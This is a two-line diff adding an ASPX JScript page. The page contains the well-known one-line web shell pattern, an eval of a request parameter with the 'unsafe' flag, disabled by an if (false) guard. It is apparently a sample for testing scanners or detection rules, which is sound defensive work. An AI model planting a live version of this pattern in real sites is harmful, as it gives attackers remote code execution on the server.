@@ -1,0 +1,2 @@
+<%@ Page Language="Jscript" %>
+<% if (false) { eval(Request.Item["ferret_example"], "unsafe"); } %>
